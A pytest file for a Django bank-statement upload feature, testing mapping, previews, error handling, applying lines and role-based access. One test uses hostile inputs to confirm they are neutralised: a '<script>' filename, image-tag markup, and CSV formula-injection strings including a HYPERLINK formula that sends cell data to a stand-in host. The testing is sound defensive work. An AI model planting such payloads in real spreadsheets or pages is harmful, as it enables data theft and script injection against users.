"""Statements through a browser without a script: uploaded, mapped with a look at the first rows, mended, applied; who may."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from access.roles import Role
from statements.models import StatementState
from tests.statements.shelf import PAYEE, Shelf, content_of, terms
from tests.support import make_person, make_tenant

pytestmark = pytest.mark.django_db(transaction=True)

MAPPED = {
    "delimiter": ";",
    "header": "on",
    "dates": "YYYY-MM-DD",
    "numbers": "1.234,50",
    "positive": "in",
    "currency": "EUR",
    "encoding": "windows-1252",
    "time_zone": "Europe/Berlin",
    "column_booked_on": "Date",
    "column_amount": "Amount",
    "column_reference": "Reference",
}


class Desk:
    """A browser at a shelf's statements."""

    def __init__(self, shelf: Shelf, *roles: Role) -> None:
        self.shelf = shelf
        self.client = Client(headers={"host": "localhost"})
        self.client.force_login(make_person(shelf.tenant, *roles) if roles else shelf.operator)

    def at(self, name: str, *args: int) -> str:
        return reverse(name, args=(self.shelf.tenant.slug, *args))

    def get(self, name: str, *args: int, **query: Any) -> Any:
        return self.client.get(self.at(name, *args), query)

    def post(self, name: str, *args: int, **values: Any) -> Any:
        return self.client.post(self.at(name, *args), values)

    def upload(self, content: bytes, name: str = "august.csv", **values: Any) -> Any:
        file = SimpleUploadedFile(name, content)
        return self.post("statement-upload", receiver=self.shelf.receiver.pk, file=file, **values)


def html_of(response: Any) -> str:
    return str(response.content.decode())


def number_in(response: Any) -> int:
    """The statement that an answer leads to."""
    return int(response["Location"].split("/statements/")[1].split("/")[0])


def test_a_file_is_uploaded_looked_at_read_mended_and_applied(shelf: Shelf) -> None:
    desk = Desk(shelf)
    answer = desk.upload(content_of("07_day_month.csv"))
    number = number_in(answer)
    assert answer["Location"] == desk.at("statement-map", number)
    proposed = html_of(desk.get("statement-map", number))
    assert "optional" not in proposed
    assert "Needed: a line without its day is an error." in proposed
    assert "The semicolon gives 4 of the first rows 3 columns each." in proposed
    assert '<option value="Date" selected>' in proposed
    unsaid = desk.post("statement-map", number, **{**MAPPED, "dates": ""}, do="read")
    assert unsaid.status_code == 422
    assert "Say how dates are written: nothing is guessed from one of them." in html_of(unsaid)
    wrong = {**MAPPED, "dates": "MM/DD/YYYY", "numbers": "1,234.50"}
    seen = desk.post("statement-map", number, **wrong, do="preview")
    assert "2 of them are wrong: nothing would be applied." in html_of(seen)
    assert "“13/04/2026” is no day of the calendar, read as MM/DD/YYYY." in html_of(seen)
    assert shelf.statement(number).state == StatementState.UPLOADED
    desk.post("statement-map", number, **wrong, do="read")
    shelf.work(number)
    page = html_of(desk.get("statement", number))
    assert "Nothing can be applied: 2 rows are wrong." in page
    assert "Apply" not in page.split("<main", 1)[1].split("Mapping", 1)[0]
    refused = desk.post("statement-apply", number, reading=1)
    assert refused.status_code == 422
    assert "2 rows are wrong, so nothing is applied." in html_of(refused)
    told = html_of(desk.get("statement", number, show="errors"))
    assert "“31/02/2026” is no day of the calendar" in told
    mended = content_of("07_day_month.csv").replace(b"31/02", b"28/02")
    desk.post("statement-discard", number)
    shelf.work(number)
    again = number_in(desk.upload(mended, "mended.csv"))
    fits = html_of(desk.get("statement-map", again))
    assert "Mapped as version 1 of The bank" in fits
    assert '<option value="MM/DD/YYYY" selected>' in fits
    desk.post("statement-map", again, **{**wrong, "dates": "DD/MM/YYYY"}, do="read")
    shelf.work(again)
    assert "Apply 3 lines" in html_of(desk.get("statement", again))
    applied = desk.client.post(desk.at("statement-apply", again), {"reading": 1}, follow=True)
    assert "Applied: 3 lines count from now on." in html_of(applied)
    assert shelf.signed(again) == [100, 200, 300]
    listed = html_of(desk.get("statements"))
    assert listed.index("mended.csv") < listed.index("august.csv")
    assert "Discarded" in listed


def test_what_stands_in_a_file_is_text_on_every_page_and_harmless_in_every_table(shelf: Shelf) -> None:
    hostile = shelf.read(content_of("18_hostile_text.csv"), terms(columns=PAYEE), name="<script>x.csv")
    desk = Desk(shelf, Role.AUDITOR)
    for name in ("statement", "statements"):
        page = html_of(desk.get(name, *([hostile] if name == "statement" else [])))
        assert "<img src=x" not in page
        assert "<script>x" not in page
    assert "U+202E" in html_of(desk.get("statement", hostile))
    formulas = shelf.read(content_of("16_formulas.csv"), terms(columns=PAYEE), account="other")
    answer = desk.get("statement-lines-file", formulas)
    text = b"".join(answer.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert [row[8] for row in rows[1:]] == [
        '\'=HYPERLINK("http://x.test/?"&A1)',
        "'+1+1",
        "'@SUM(1)",
        "'=1+1",
    ]
    assert {row[3] for row in rows[1:]} == {"-12.50"}
    assert "attachment" in answer["Content-Disposition"]
    columns = {
        "booked_on": "Booked on",
        "amount": "Amount",
        "counterparty": "Counterparty",
        "currency": "Currency",
    }
    back = terms(delimiter=",", numbers="1234.50", columns=columns, currency="")
    again = shelf.read(text.encode(), back, account="back")
    assert [(n.amount, n.counterparty) for n in shelf.lines(again)] == [
        (n.amount, n.counterparty) for n in shelf.lines(formulas)
    ]


def test_errors_and_the_file_can_be_saved(shelf: Shelf) -> None:
    content = b"Date;Amount;Reference\n2026-08-03;=1+1;A\n2026-08-04;x;B\n"
    number = shelf.read(content)
    desk = Desk(shelf, Role.AUDITOR)
    text = b"".join(desk.get("statement-errors-file", number).streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert [row[:3] for row in rows] == [
        ["Row", "Column", "Was read"],
        ["2", "Amount", "'=1+1"],
        ["3", "Amount", "x"],
    ]
    saved = desk.get("statement-file", number)
    assert b"".join(saved.streaming_content) == content
    assert saved["Content-Type"] == "application/octet-stream"


def test_the_same_file_and_one_that_is_too_large_are_refused_at_the_field(
    shelf: Shelf, settings: Any
) -> None:
    desk = Desk(shelf)
    desk.upload(content_of("01_bom_semicolon.csv"))
    again = desk.upload(content_of("01_bom_semicolon.csv"))
    assert again.status_code == 409
    assert "has uploaded this very file already" in html_of(again)
    settings.COUNTERFOIL_LARGEST_STATEMENT = 1000
    large = desk.upload(b"x" * 2000)
    assert large.status_code == 422
    assert "larger than 1,000 bytes" in html_of(large)
    settings.COUNTERFOIL_LARGEST_FILE, settings.COUNTERFOIL_LARGEST_STATEMENT = 100, 10_000
    assert desk.upload(b"Date;Amount\n" * 100).status_code == 302


def test_auditors_read_operators_work_and_outsiders_find_nothing(shelf: Shelf) -> None:
    number = shelf.read(content_of("01_bom_semicolon.csv"))
    reading_only = [("statement-map", number), ("statement-upload",)]
    posted = ["statement-read", "statement-apply", "statement-discard", "statement-settle"]
    auditor, submitter = Desk(shelf, Role.AUDITOR), Desk(shelf, Role.SUBMITTER)
    assert [auditor.get(*page).status_code for page in reading_only] == [403, 403]
    assert [auditor.post(name, number).status_code for name in posted] == [403] * 4
    assert auditor.get("statement", number).status_code == 200
    assert "statements/upload" not in html_of(auditor.get("statements"))
    pages = ["statement", "statement-errors-file", "statement-lines-file", "statement-file"]
    assert [submitter.get(name, number).status_code for name in pages] == [403] * 4
    elsewhere = Desk(Shelf(make_tenant(), make_person(shelf.tenant, Role.OPERATOR), shelf.receiver))
    assert elsewhere.get("statement", number).status_code == 404
    other = Desk(Shelf.make())
    assert [other.get(name, number).status_code for name in (*pages, "statement-map")] == [404] * 5
    assert [other.post(name, number).status_code for name in posted[1:]] == [404, 404, 422]
    assert other.upload(b"x", account="").status_code == 302
    assert shelf.statement(number).state == StatementState.READ


def test_while_it_is_read_the_page_asks_again_and_stops_when_it_is(shelf: Shelf) -> None:
    number = shelf.upload(content_of("01_bom_semicolon.csv"))
    desk = Desk(shelf)
    assert "Say how it is read" in html_of(desk.get("statement", number))
    shelf.begin(number)
    assert "every 2s" in html_of(desk.get("statement", number))
    shelf.work(number)
    live = desk.client.get(desk.at("statement", number), headers={"HX-Request": "true"})
    assert live.status_code == 286
    assert "Apply 1 line<" in html_of(live)


def test_rows_that_may_be_known_are_asked_about_and_answered(shelf: Shelf) -> None:
    head = b"Date;Amount;Reference\n"
    shelf.apply(shelf.read(head + b"2026-08-03;-1,00;rent\n2026-08-04;-2,00;fee\n2026-08-05;-3,00;tax\n"))
    words = b"2026-08-03;-1,00;rent August\n2026-08-04;-2,00;fee August\n2026-08-05;-3,00;tax August\n2026-08-06;-4,00;new\n"
    number = shelf.read(head + words)
    desk, auditor = Desk(shelf), Desk(shelf, Role.AUDITOR)
    asked = html_of(desk.get("statement", number))
    assert "3 rows may be known already." in asked
    assert "Row 2: 3 Aug 2026" in asked
    assert "rent August" in asked
    assert "Apply 4 lines" not in asked
    assert "It is the earlier line" not in html_of(auditor.get("statement", number))
    assert desk.post("statement-settle", number).status_code == 422
    assert desk.post("statement-settle", number, reading=1, **{"row-99": "same"}).status_code == 404
    assert desk.post("statement-settle", number, reading=1, **{f"row-{'9' * 40}": "same"}).status_code == 422
    desk.post("statement-settle", number, reading=1, **{"row-2": "same"})
    assert "2 rows may be known already." in html_of(desk.get("statement", number))
    desk.post("statement-settle", number, reading=1, all="another")
    desk.post("statement-apply", number, reading=1)
    assert shelf.signed(number) == [-200, -300, -400]


def test_a_header_of_thousands_of_columns_still_makes_a_page(shelf: Shelf) -> None:
    columns = ";".join(f"C{n}" for n in range(5000))
    number = shelf.upload(f"Date;Amount;{columns}\n".encode() + b"2026-08-03;1,00" + b";" * 5000 + b"\n")
    page = Desk(shelf).get("statement-map", number)
    assert page.status_code == 200
    assert len(page.content) < 500_000
